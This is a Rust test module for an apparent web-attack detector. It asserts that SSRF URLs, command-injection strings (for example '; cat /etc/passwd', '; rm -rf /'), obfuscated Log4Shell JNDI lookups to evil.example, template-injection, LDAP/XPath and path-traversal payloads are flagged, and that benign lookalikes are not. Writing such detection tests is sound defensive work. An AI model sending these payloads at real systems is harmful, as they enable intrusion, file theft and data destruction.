    macro_rules! check {
        ($f:expr, $s:expr) => {{
            let (raw, lower) = val($s);
            let v = Value::new(&raw, &lower);
            $f(&v)
        }};
    }

    #[test]
    fn substring_search() {
        assert_eq!(find(b"abcabd", b"abd"), Some(3));
        assert_eq!(find(b"abc", b"abcd"), None);
        assert_eq!(find(b"abc", b""), None);
        assert_eq!(find(b"aaa", b"aa"), Some(0));
        assert_eq!(find(b"xyz", b"z"), Some(2));
        let long = [b"a".repeat(600), b"needle".to_vec()].concat();
        assert_eq!(find(&long, b"needle"), Some(600));
    }

    #[test]
    fn lenient_ipv4() {
        assert_eq!(parse_ipv4_lenient(b"2130706433"), Some(0x7f000001));
        assert_eq!(parse_ipv4_lenient(b"0x7f000001"), Some(0x7f000001));
        assert_eq!(parse_ipv4_lenient(b"0177.0.0.1"), Some(0x7f000001));
        assert_eq!(parse_ipv4_lenient(b"127.1"), Some(0x7f000001));
        assert_eq!(parse_ipv4_lenient(b"example"), None);
        assert_eq!(parse_ipv4_lenient(b"1.2.3.4.5"), None);
        assert_eq!(parse_ipv4_lenient(b"256.1.1.1"), None);
    }

    #[test]
    fn ssrf_targets() {
        let c = ctx(Source::QueryValue);
        for s in [
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://127.0.0.1:6379/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://[::1]/",
            "http://[::ffff:127.0.0.1]/",
            "http://localhost/admin",
            "gopher://evil.example:25/_HELO",
            "dict://127.0.0.1:11211/stat",
            "http://user@127.0.0.1/",
            "http://10.0.0.5/internal",
            "http://127.0.0.1.nip.io/",
        ] {
            let sig = check!(|v| url_checks(v, &c), s).unwrap_or_else(|| panic!("missed {s}"));
            assert_eq!(sig.confidence, Confidence::Strong, "{s}");
        }
        for s in [
            "https://example.com/a?b=c",
            "https://api.github.com/repos",
            "http://8.8.8.8/",
        ] {
            assert!(check!(|v| url_checks(v, &c), s).is_none(), "{s}");
        }
    }

    #[test]
    fn command_injection() {
        let c = ctx(Source::QueryValue);
        let mut scratch = Vec::new();
        for s in [
            "; cat /etc/passwd",
            "127.0.0.1 && whoami",
            "| id",
            "$(whoami)",
            "`id`",
            "x;${IFS}cat${IFS}/etc/passwd",
            "a|w'h'o'a'm'i",
            "; sleep 5",
            "& ping -n 3 127.0.0.1 &",
            "|| /bin/ls -la",
            "file.txt; rm -rf /",
        ] {
            let sig =
                check!(|v| cmdi(v, &c, &mut scratch), s).unwrap_or_else(|| panic!("missed {s}"));
            assert_eq!(sig.confidence, Confidence::Strong, "{s}");
        }
        for s in [
            "Tom & Jerry",
            "R&D; id card",
            "salt & pepper; more please",
            "Q&A",
            "AT&T",
            "fish & chips; cat lovers",
        ] {
            assert!(check!(|v| cmdi(v, &c, &mut scratch), s).is_none(), "{s}");
        }
    }

    #[test]
    fn jndi_obfuscations() {
        let mut scratch = Vec::new();
        for s in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
            "${j${k8s:k5:-ND}i:ldap://x/a}",
        ] {
            assert!(check!(|v| jndi(v, &mut scratch), s).is_some(), "{s}");
        }
        assert!(check!(|v| jndi(v, &mut scratch), "${price} total").is_none());
    }

    #[test]
    fn templates() {
        let c = ctx(Source::JsonValue);
        for s in [
            "{{7*7}}",
            "${7*7}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{config.items()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
        ] {
            assert!(check!(|v| ssti(v, &c), s).is_some(), "{s}");
        }
        for s in [
            "Hello {{name}}",
            "Total: ${amount}",
            "{% if user %}hi{% endif %}",
            "{{ 'now' | date }}",
        ] {
            assert!(check!(|v| ssti(v, &c), s).is_none(), "{s}");
        }
    }

    #[test]
    fn ldap_and_xpath() {
        let c = ctx(Source::QueryValue);
        for s in [
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "x)(|(objectclass=*)",
            "*)(cn=*",
        ] {
            assert!(check!(|v| ldap(v, &c), s).is_some(), "{s}");
        }
        assert!(check!(|v| ldap(v, &c), "see (a)(b) and (c)").is_none());
        for s in [
            "' or count(/*)=1 or '",
            "x' or name()='admin",
            "']|//*|//*['",
        ] {
            assert!(check!(|v| xpath(v, &c), s).is_some(), "{s}");
        }
    }

    #[test]
    fn traversal_forms() {
        let c = ctx(Source::QueryValue);
        for s in [
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "....//....//etc/passwd",
            "php://filter/convert.base64-encode/resource=index.php",
        ] {
            let sig = check!(|v| traversal(v, &c), s).unwrap_or_else(|| panic!("missed {s}"));
            assert_eq!(sig.confidence, Confidence::Strong, "{s}");
        }
        assert!(check!(|v| traversal(v, &c), "images/cat.png").is_none());
        assert!(check!(|v| traversal(v, &c), "Wait... what?").is_none());
    }
}
